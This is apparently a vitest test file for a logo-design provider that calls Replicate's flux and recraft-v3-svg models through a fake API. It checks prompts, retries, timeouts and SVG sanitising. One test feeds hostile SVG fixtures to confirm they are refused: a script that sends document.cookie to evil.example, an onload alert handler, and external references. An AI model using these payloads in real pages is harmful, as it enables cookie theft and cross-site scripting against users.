import sharp from "sharp";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { LogoDesignError } from "../../domain/ports/logo-designer";
import { planDirections } from "../../engine";
import { renderMasterPng } from "../../engine/render";
import { attribute, parseSvg, serialize, walk } from "../graphics/svg-tree";
import { type FakeReplicate, startFakeReplicate } from "../replicate/testing/fake-replicate";
import { ReplicateLogoDesignProvider } from "./replicate-provider";

/**
 * The Replicate provider against the fake of Replicate's HTTP API (predictions by model name,
 * polling, cancel, and the output file host): what it asks each model for, and how the symbol it
 * gets back becomes the logo. The polling loop itself has its own tests beside the client.
 */

const FLUX = "black-forest-labs/flux-schnell";
const RECRAFT = "recraft-ai/recraft-v3-svg";
/** Colours no palette uses, so finding them in a render proves the symbol's references held. */
const LEAF_GREEN = [0x00, 0xff, 0x00] as const;
const SEED_MAGENTA = [0xff, 0x00, 0xff] as const;

/**
 * A symbol as recraft-v3-svg writes it: a size and no viewBox, a canvas-sized near-white path
 * first, then the shapes. The leaf is painted through a gradient and the seed drawn through <use>,
 * so both only show when the references survive the id prefixing.
 */
const RECRAFT_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg version="1.1" xmlns="http://www.w3.org/2000/svg" width="1024" height="1024">
<path d="M0 0 C337.92 0 675.84 0 1024 0 C1024 337.92 1024 675.84 1024 1024 C686.08 1024 348.16 1024 0 1024 C0 686.08 0 337.92 0 0 Z " fill="#FEFEFE" transform="translate(0,0)"/>
<defs><linearGradient id="leaf"><stop offset="0" stop-color="#00FF00"/><stop offset="1" stop-color="#00FF00"/></linearGradient><circle id="seed" r="120" fill="#FF00FF"/></defs>
<path d="M512 112 C712 312 712 512 512 712 C312 512 312 312 512 112 Z" fill="url(#leaf)"/>
<use href="#seed" x="512" y="800"/>
</svg>`;

let fake: FakeReplicate;
let symbolPng: Buffer;

function provider(
  overrides: Partial<{ timeoutMs: number; maxAttempts: number; model: `${string}/${string}` }> = {},
): ReplicateLogoDesignProvider {
  return new ReplicateLogoDesignProvider({
    client: fake.client(),
    model: overrides.model ?? FLUX,
    fetch: globalThis.fetch,
    timeoutMs: overrides.timeoutMs ?? 5000,
    pollIntervalMs: 20,
    maxAttempts: overrides.maxAttempts ?? 2,
    maxRetryAfterMs: 500,
  });
}

const BRIEF = { brandName: "Acme Bakery", description: "Artisan sourdough bakery" };

async function designOnce(
  p: ReplicateLogoDesignProvider,
  signal?: AbortSignal,
  iconStyle?: "solid" | "line",
) {
  const [planned] = planDirections(BRIEF, 1, [], 11);
  if (!planned) throw new Error("no direction planned");
  const direction = iconStyle ? { ...planned, spec: { ...planned.spec, iconStyle } } : planned;
  return p.designLogo({ brief: BRIEF, direction, variant: 0, seed: 11, ...(signal ? { signal } : {}) });
}

async function expectDesignError(promise: Promise<unknown>): Promise<LogoDesignError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(LogoDesignError);
  return error as LogoDesignError;
}

beforeAll(async () => {
  symbolPng = await sharp(
    Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="256" height="256"><rect width="256" height="256" fill="#fff"/><circle cx="128" cy="128" r="80" fill="#B4622C"/></svg>',
    ),
  )
    .png()
    .toBuffer();
  // Like the real models: flux answers a list of PNG URLs, recraft-v3-svg one SVG URL.
  fake = await startFakeReplicate({
    output: (prediction, fileUrl) =>
      prediction.model === RECRAFT ? fileUrl(`${prediction.id}.svg`) : [fileUrl(`${prediction.id}.png`)],
    file: (name) =>
      name.endsWith(".svg")
        ? { status: 200, body: RECRAFT_SVG, type: "image/svg+xml" }
        : { status: 200, body: symbolPng, type: "image/png" },
    error: "Prediction failed: NSFW content detected",
  });
});

afterAll(async () => {
  await fake.close();
});

beforeEach(() => {
  fake.reset();
});

describe("ReplicateLogoDesignProvider with a raster model (flux) against a fake Replicate API", () => {
  it("asks for the symbol only, with a fixed seed, and sets the name itself", async () => {
    const logo = await designOnce(provider());

    expect(fake.creates).toHaveLength(1);
    const [create] = fake.creates;
    expect(create?.path).toBe("/v1/models/black-forest-labs/flux-schnell/predictions");
    expect(create?.authorization).toBe("Bearer test-token");
    const input = create?.body.input as Record<string, unknown>;
    expect(input.go_fast).toBe(false);
    expect(typeof input.seed).toBe("number");
    expect(String(input.prompt)).toMatch(/no text, no letters/i);
    expect(String(input.prompt)).not.toContain("Acme Bakery");

    // The 1024 px PNG is drawn from the vector master (the symbol embedded) when an export asks.
    expect(logo.png).toBeNull();
    const master = await sharp(await renderMasterPng(logo.svg ?? "")).metadata();
    expect([master.width, master.height, master.format]).toEqual([1024, 1024, "png"]);
    expect(Buffer.isBuffer(logo.preview)).toBe(false);
    if (!Buffer.isBuffer(logo.preview)) expect([logo.preview.width, logo.preview.height]).toEqual([512, 512]);
    expect(logo.svg).toContain("data:image/png;base64,");
    expect(logo.svg).not.toContain("<text");
  });

  it("reports a rate limit as rate_limited after a bounded number of requests", async () => {
    fake.behaviour.createStatus = () => 429;
    const error = await expectDesignError(designOnce(provider({ maxAttempts: 2 })));
    expect(error.kind).toBe("rate_limited");
    // Our 2 attempts, each with the client's own bounded retries (at most 6 requests).
    expect(fake.creates.length).toBeGreaterThanOrEqual(2);
    expect(fake.creates.length).toBeLessThanOrEqual(12);
    expect(fake.polls.length).toBe(0);
  });

  it("recovers when the rate limit lifts before the attempts run out", async () => {
    fake.behaviour.createStatus = (n) => (n <= 6 ? 429 : 201);
    const logo = await designOnce(provider({ maxAttempts: 2 }));
    expect(logo.svg).toContain("data:image/png;base64,");
    expect(fake.creates.length).toBe(7);
  });

  it("tries a failed prediction again once, then reports failed", async () => {
    fake.behaviour.statuses = ["processing", "failed"];
    const error = await expectDesignError(designOnce(provider({ maxAttempts: 2 })));
    expect(error.kind).toBe("failed");
    expect(fake.creates).toHaveLength(2);
  });

  it("gives up at the deadline, cancels the prediction and reports timeout", async () => {
    fake.behaviour.statuses = ["processing"];
    const started = Date.now();
    const error = await expectDesignError(designOnce(provider({ timeoutMs: 300 })));
    expect(error.kind).toBe("timeout");
    expect(Date.now() - started).toBeLessThan(3000);
    expect(fake.cancels).toEqual(["p1"]);
    expect(fake.creates).toHaveLength(1);
  });

  it("stops at the request's deadline when it comes before its own timeout, and reports timeout", async () => {
    fake.behaviour.statuses = ["processing"];
    const started = Date.now();
    const error = await expectDesignError(
      designOnce(provider({ timeoutMs: 10_000 }), AbortSignal.timeout(300)),
    );
    expect(error.kind).toBe("timeout");
    // Well before the provider's own 10 s: the request's deadline stopped the polling.
    expect(Date.now() - started).toBeLessThan(3000);
    expect(fake.cancels).toEqual(["p1"]);
    const pollsAtTimeout = fake.polls.length;
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(fake.polls.length).toBe(pollsAtTimeout);
  });

  it("starts no prediction when the request's deadline has already passed", async () => {
    const passed = AbortSignal.abort();
    const error = await expectDesignError(designOnce(provider(), passed));
    expect(error.kind).toBe("timeout");
    expect(fake.creates).toHaveLength(0);
    expect(fake.polls.length).toBe(0);
  });

  it("reports an output that is gone or not an image as invalid_output", async () => {
    fake.behaviour.file = () => ({ status: 404, body: Buffer.from("gone"), type: "text/plain" });
    expect((await expectDesignError(designOnce(provider()))).kind).toBe("invalid_output");

    fake.behaviour.file = () => ({ status: 200, body: Buffer.from("not an image"), type: "image/png" });
    expect((await expectDesignError(designOnce(provider()))).kind).toBe("invalid_output");
  });
});

/** The master's parts by their data-part names, read with the brand kit's own SVG reader. */
function partsOf(svg: string) {
  const elements = [...walk(parseSvg(svg))];
  const part = (name: string) => elements.filter((element) => attribute(element, "data-part") === name);
  return { elements, symbol: part("symbol"), name: part("name") };
}

/** Pixels of the 1024 px master within a few levels of a colour. */
async function pixelsOf(svg: string, [r, g, b]: readonly [number, number, number]): Promise<number> {
  const { data } = await sharp(await renderMasterPng(svg))
    .removeAlpha()
    .raw()
    .toBuffer({ resolveWithObject: true });
  let count = 0;
  for (let i = 0; i < data.length; i += 3) {
    const near =
      Math.abs((data[i] ?? 0) - r) + Math.abs((data[i + 1] ?? 0) - g) + Math.abs((data[i + 2] ?? 0) - b);
    if (near <= 12) count++;
  }
  return count;
}

function svgFile(body: string, type = "image/svg+xml") {
  return () => ({ status: 200, body: Buffer.from(body), type });
}

describe("ReplicateLogoDesignProvider with a vector model (recraft-v3-svg) against a fake Replicate API", () => {
  it("sends recraft's inputs only: the prompt for a flat vector symbol, a square size and a style", async () => {
    await designOnce(provider({ model: RECRAFT }), undefined, "solid");
    await designOnce(provider({ model: RECRAFT }), undefined, "line");

    expect(fake.creates.map((create) => create.path)).toEqual([
      "/v1/models/recraft-ai/recraft-v3-svg/predictions",
      "/v1/models/recraft-ai/recraft-v3-svg/predictions",
    ]);
    const [solid, line] = fake.creates.map((create) => create.body.input as Record<string, unknown>);
    // Exactly these keys: flux's go_fast, seed, megapixels, num_outputs and output_format are not sent.
    expect(solid).toEqual({ prompt: expect.any(String), size: "1024x1024", style: "any" });
    expect(line).toEqual({ prompt: expect.any(String), size: "1024x1024", style: "line_art" });
    const prompt = String(solid?.prompt);
    expect(prompt).toMatch(/^A flat vector logo symbol: /);
    expect(prompt).toMatch(/a few bold solid shapes/);
    expect(prompt).toMatch(/no text, no letters/i);
    expect(prompt).not.toContain("Acme Bakery");
    // recraft-v3-svg reads at most 1000 characters of prompt.
    expect(prompt.length).toBeLessThanOrEqual(1000);
    expect(String(line?.prompt)).toMatch(/a few clean lines of even stroke weight/);
  });

  it("draws the model's shapes as the logo's vector symbol, with prefixed ids, beside the outlined name", async () => {
    const logo = await designOnce(provider({ model: RECRAFT }));
    const svg = logo.svg ?? "";

    expect(logo.png).toBeNull();
    expect(svg).not.toContain("data:image/png");
    expect(svg).not.toContain("<text");
    const { symbol, name } = partsOf(svg);
    expect(symbol).toHaveLength(1);
    const [symbolPart] = symbol;
    if (!symbolPart) throw new Error("no symbol part");
    const drawn = serialize(symbolPart);
    const prefix = /id="(v[0-9a-f]{12}-)leaf"/.exec(drawn)?.[1];
    expect(prefix).toBeDefined();
    expect(drawn).toContain(`<circle id="${prefix}seed" r="120" fill="#FF00FF"/>`);
    expect(drawn).toContain(`fill="url(#${prefix}leaf)"`);
    expect(drawn).toContain(`href="#${prefix}seed"`);
    expect(svg).not.toMatch(/id="(leaf|seed)"/);
    // The name is the engine's outlines: paths, beside the symbol.
    expect(name.length).toBeGreaterThan(0);
    expect(name.flatMap((part) => [...walk(part)]).some((element) => element.name === "path")).toBe(true);

    // The gradient and the <use> still resolve once prefixed: both colours are drawn.
    expect(await pixelsOf(svg, LEAF_GREEN)).toBeGreaterThan(500);
    expect(await pixelsOf(svg, SEED_MAGENTA)).toBeGreaterThan(500);
    expect(Buffer.isBuffer(logo.preview)).toBe(false);
    if (!Buffer.isBuffer(logo.preview)) expect([logo.preview.width, logo.preview.height]).toEqual([512, 512]);

    // Another logo gets other ids, so both can sit in one document.
    const again = (await designOnce(provider({ model: RECRAFT }))).svg ?? "";
    const otherPrefix = /id="(v[0-9a-f]{12}-)leaf"/.exec(again)?.[1];
    expect(otherPrefix).toBeDefined();
    expect(otherPrefix).not.toBe(prefix);
  });

  it("drops the white background the model draws first", async () => {
    const logo = await designOnce(provider({ model: RECRAFT }));
    const svg = logo.svg ?? "";
    expect(RECRAFT_SVG).toContain("#FEFEFE");
    expect(svg).not.toContain("#FEFEFE");
    expect(svg).not.toContain("337.92");
    const [symbolPart] = partsOf(svg).symbol;
    const shapes = symbolPart ? [...walk(symbolPart)].filter((element) => element.name === "path") : [];
    expect(shapes.map((shape) => attribute(shape, "fill"))).toEqual([expect.stringMatching(/^url\(#v/)]);
  });

  it("reads an SVG answer by its content when the file host gives no SVG type", async () => {
    // Whitespace may open the body when no XML declaration follows it.
    const withoutDeclaration = RECRAFT_SVG.replace(/^<\?xml[^>]*>/, "");
    fake.behaviour.file = svgFile(`\n  ${withoutDeclaration}`, "application/octet-stream");
    const logo = await designOnce(provider({ model: RECRAFT }));
    expect(logo.svg).toMatch(/fill="url\(#v[0-9a-f]{12}-leaf\)"/);
  });

  it.each([
    ["a script", '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'],
    ["an onload handler", '<g onload="alert(1)"><circle r="40" cx="50" cy="50"/></g>'],
    ["an external image", '<image href="https://evil.example/track.png" width="100" height="100"/>'],
    ["an external use", '<use href="https://evil.example/sprite.svg#logo"/>'],
  ])("refuses an SVG with %s as invalid_output, and does not try again", async (_label, content) => {
    fake.behaviour.file = svgFile(
      `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><circle r="30" cx="50" cy="50" fill="#000"/>${content}</svg>`,
    );
    const error = await expectDesignError(designOnce(provider({ model: RECRAFT, maxAttempts: 2 })));
    expect(error.kind).toBe("invalid_output");
    expect(fake.creates).toHaveLength(1);
  });

  it("keeps the artwork of a link out of the file but not the link", async () => {
    fake.behaviour.file = svgFile(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><a href="https://evil.example/"><circle r="30" cx="50" cy="50" fill="#FF00FF"/></a></svg>',
    );
    const svg = (await designOnce(provider({ model: RECRAFT }))).svg ?? "";
    expect(svg).not.toContain("evil.example");
    expect(partsOf(svg).elements.some((element) => element.name === "a")).toBe(false);
    expect(svg).toContain('<circle r="30" cx="50" cy="50" fill="#FF00FF"/>');
  });

  it("refuses an answer that is neither SVG nor an image as invalid_output", async () => {
    fake.behaviour.file = svgFile("<svg xmlns='http://www.w3.org/2000/svg'><circle r='1'></svg>");
    expect((await expectDesignError(designOnce(provider({ model: RECRAFT })))).kind).toBe("invalid_output");

    fake.behaviour.file = svgFile("not an image", "image/svg+xml");
    expect((await expectDesignError(designOnce(provider({ model: RECRAFT })))).kind).toBe("invalid_output");
  });

  it("keeps the failure behaviour of the raster path: rate limits, failed predictions and timeouts", async () => {
    fake.behaviour.createStatus = () => 429;
    expect((await expectDesignError(designOnce(provider({ model: RECRAFT, maxAttempts: 2 })))).kind).toBe(
      "rate_limited",
    );

    fake.reset();
    fake.behaviour.createStatus = () => 201;
    fake.behaviour.statuses = ["processing", "failed"];
    expect((await expectDesignError(designOnce(provider({ model: RECRAFT, maxAttempts: 2 })))).kind).toBe(
      "failed",
    );
    expect(fake.creates).toHaveLength(2);

    fake.reset();
    fake.behaviour.statuses = ["processing"];
    expect((await expectDesignError(designOnce(provider({ model: RECRAFT, timeoutMs: 300 })))).kind).toBe(
      "timeout",
    );
    expect(fake.cancels).toEqual(["p1"]);
  });
});
